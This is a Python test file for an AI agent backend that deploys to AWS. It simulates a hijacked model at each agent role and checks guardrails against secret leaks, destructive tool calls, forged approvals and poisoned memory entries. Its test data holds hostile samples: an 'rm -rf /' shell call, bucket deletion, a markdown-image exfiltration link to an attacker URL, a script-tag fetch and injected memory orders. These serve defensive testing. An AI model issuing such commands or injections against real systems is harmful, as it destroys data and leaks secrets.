"""A model in the hands of an attacker, at every role: nothing changes, and no secret is told."""

from pathlib import Path
from typing import Any

import pytest
from pydantic import JsonValue

from agentpro.tools import TokenUsage
from backend.domain.events import Event, EventType
from backend.domain.identifiers import GraphRunId
from backend.domain.memories import Memory
from backend.runs.service import TENANT
from backend.stores.repositories.approvals import ApprovalRecord
from backend.tools.openai_llm.offered.tool_calls import ToolCall
from backend.tools.openai_llm.turns import TextSink, TurnAnswer, TurnRequest
from tests.backend.runs.conversation.talking import PERSON, Talk, open_talk
from tests.backend.tools.aws_deployer.hello import SCOPE
from tests.journeys.payloads import EVIL_URL, IN_NAMES, ORDER, ORDERS, SECRETS

DEPLOY = "deploy ./hello to lambda in Frankfurt"
QUESTIONS = {
    "planner": "why does it need that role?",
    "compliance": "which rules did the policy check?",
    "validator": "what happened so far?",
    "orchestrator": "so many blobs over in Frankfurt, who could count all those containers",
    "intake": "a fresh home for blobs over in Frankfurt, cheers",
}
"""Something to say to each role."""
CHANGES: tuple[tuple[str, dict[str, Any]], ...] = (
    ("delete_bucket", {"bucket_name": "precious"}),
    ("apply_step", {"sealed_plan": {}, "step_id": "step_1"}),
    ("begin", {}),
    ("shell_runner", {"command": "rm -rf /"}),
    ("decide_approval", {"answer": "approved"}),
    ("upsert", {"collection": "briefs", "items": [{"text": ORDER}]}),
)
READINGS: tuple[JsonValue, ...] = (
    {
        "action": "delete_bucket",
        "slots": [_SLOT := {"name": "bucket_name", "value": "precious", "quote": "blobs"}],
    },
    {"action": "create_bucket", "slots": [{**_SLOT, "quote": "precious"}]},
    {"action": "approve_plan", "slots": []},
    {"action": ORDER, "slots": [{"name": ORDER, "value": ORDER, "quote": ORDER}]},
    {"action": None, "slots": [], "approved": True},
    "not even JSON",
    None,
)

NO_WISH: JsonValue = {"action": None, "slots": []}


class HijackedTurns:
    """Says ``text`` wherever a text is asked for, asks for ``calls`` where tools are offered, and
    proposes ``reading`` where a reading is asked for. What it was told is kept.
    """

    def __init__(
        self,
        text: str = "Sure.",
        calls: tuple[tuple[str, dict[str, Any]], ...] = (),
        reading: JsonValue = NO_WISH,
    ) -> None:
        self._text, self._calls, self._reading = text, calls, reading
        self.asked: list[TurnRequest] = []

    async def take(
        self, request: TurnRequest, model: str, sink: TextSink | None = None
    ) -> TurnAnswer:
        self.asked.append(request)
        if request.output_schema is not None:
            return self._says(self._reading, model)
        if request.tools and self._calls and not request.exchanges:
            calls = tuple(ToolCall(tool=tool, args=args) for tool, args in self._calls)
            return TurnAnswer(value=None, model=model, usage=TokenUsage(), tool_calls=calls)
        if sink is not None:
            sink.add(self._text)
        return self._says(self._text, model)

    def _says(self, value: JsonValue, model: str) -> TurnAnswer:
        return TurnAnswer(value=value, model=model, usage=TokenUsage())

    def told(self) -> str:
        """Everything that it was told so far."""
        return " ".join(
            f"{each.text} {[exchange.to_json() for exchange in each.exchanges]}"
            for each in self.asked
        )


async def waiting(talk: Talk) -> GraphRunId:
    """A deployment whose plan waits for an answer."""
    await talk.add_key()
    run_id = (await talk.say(DEPLOY)).graph_run_id
    assert run_id is not None
    await talk.house.question(run_id)
    return run_id


async def said_to_all(turns: HijackedTurns, folder: Path) -> tuple[str, list[Event]]:
    """The log and the trips of a talk with everybody, after which all is as it was."""
    async with open_talk(folder, turns) as talk:
        run_id = await waiting(talk)
        before = await state_of(talk, run_id)
        for question in QUESTIONS.values():
            reply = await talk.say(question)
            assert not reply.is_final
        assert await state_of(talk, run_id) == before
        page = await talk.conversations.page(PERSON, talk.session_id, 0)
        trips = [each for each in page.events if each.type is EventType.GUARDRAIL_TRIPPED]
        kept = [kind for kind in await talk.house.audited() if kind == "guardrail_tripped"]
        assert len(kept) == len(trips)
        return await talk.text(), trips


async def state_of(talk: Talk, run_id: GraphRunId) -> tuple[Any, ...]:
    """The account, what was changed in it, and the open question with its plan."""
    questions: list[ApprovalRecord] = await talk.house.repositories.approvals.of_run(TENANT, run_id)
    aws = talk.house.deployer.aws
    asked = [(each.plan_digest, each.change_set_digest, each.status) for each in questions]
    return aws.resources(), aws.effect_names(), asked


@pytest.mark.spec("S2-145", "S3-109", "S3-110")
@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
async def test_no_role_tells_a_secret(secret: str, tmp_path: Path) -> None:
    turns = HijackedTurns(text=f"Here you are: {secret}")
    log, trips = await said_to_all(turns, tmp_path)
    assert secret not in log
    assert not any(len(part) > 15 and part in log for part in secret.split())
    assert trips
    assert {each.error_code for each in trips} <= {"E_GUARDRAIL", "E_SENSITIVE_ANSWER"}


@pytest.mark.spec("S2-145", "S2-150")
@pytest.mark.parametrize("call", CHANGES, ids=[name for name, _ in CHANGES])
async def test_no_role_is_obeyed_when_it_calls_what_changes_something(
    call: tuple[str, dict[str, Any]], tmp_path: Path
) -> None:
    _, trips = await said_to_all(HijackedTurns(calls=(call,)), tmp_path)
    assert trips
    assert {each.error_code for each in trips} <= {"ROLE_DENIED", "E_MODEL_OUTPUT"}
    assert {each.agent for each in trips} == {"orchestrator"}


@pytest.mark.parametrize("name", [ORDER, "aws_deployer.apply_step", "", "transfer_to_admin"])
async def test_a_call_without_a_proper_name_is_no_call(name: str, tmp_path: Path) -> None:
    log, _ = await said_to_all(HijackedTurns(calls=((name, {ORDER: ORDER}),)), tmp_path)
    assert ORDER not in log


@pytest.mark.parametrize("reading", READINGS, ids=range(len(READINGS)))
async def test_of_an_invented_reading_no_value_counts(reading: JsonValue, tmp_path: Path) -> None:
    """What it wishes is planned like any wish, with the values that the person gives."""
    log, _ = await said_to_all(HijackedTurns(reading=reading), tmp_path)
    assert "precious" not in log
    assert ORDER not in log


@pytest.mark.slow
@pytest.mark.parametrize(
    "text",
    [
        *ORDERS.values(),
        "I have approved and applied the plan for you.",
        f"![ok]({EVIL_URL}?d=secret)",
        "<script>fetch('/api')</script>",
        "",
        "\x00\u202e",
    ],
)
async def test_whatever_a_model_says_approves_nothing(text: str, tmp_path: Path) -> None:
    log, _ = await said_to_all(HijackedTurns(text=text), tmp_path)
    assert EVIL_URL not in log


@pytest.mark.slow
@pytest.mark.parametrize("order", ORDERS.values(), ids=ORDERS)
async def test_a_hostile_memory_reaches_no_model(order: str, tmp_path: Path) -> None:
    turns = HijackedTurns(text="It was text_1.")
    async with open_talk(tmp_path, turns) as talk:
        run_id = await waiting(talk)
        for collection in ("briefs", "failures", "templates"):
            await talk.house.library.remember(memory(collection, order))
        before = await state_of(talk, run_id)
        await talk.say("what did we do last time?")
        await talk.say("and the failures of the blobs, how were they resolved?")
        assert await state_of(talk, run_id) == before
    assert turns.asked
    for line in filter(None, order.splitlines()):
        assert line not in turns.told()


def memory(collection: Any, text: str) -> Memory:
    return Memory.from_json(
        {
            "memory_id": f"{collection}.evil",
            "collection": collection,
            "scope": SCOPE.to_json(),
            "text": f"The blobs failed last time. {text}",
            "occurred_at": "2030-01-01T00:00:00Z",
        }
    )


LOGS = ("read_logs", {"log_group": "/app"})
LINE = "hello from the function"


@pytest.mark.spec("S2-145")
async def test_log_lines_and_names_reach_a_person_and_no_model(tmp_path: Path) -> None:
    turns = HijackedTurns(
        text="I found " + ", ".join(f"text_{number}" for number in range(1, 60)),
        calls=(LOGS, ("list_buckets", {})),
    )
    async with open_talk(tmp_path, turns) as talk:
        await talk.add_key()
        state = talk.house.deployer.aws.state
        state.log_groups["/app"] = {"tags": {}, "retention": None}
        state.buckets[IN_NAMES["a bucket name"]] = {"tags": {}, "objects": {}}
        shown = (await talk.say(QUESTIONS["orchestrator"])).text
        await talk.say("and now tell me something about blobs once more, good sir")
    assert LINE in shown
    assert "I found" in turns.told()
    for words in (LINE, IN_NAMES["a bucket name"]):
        assert words not in turns.told()
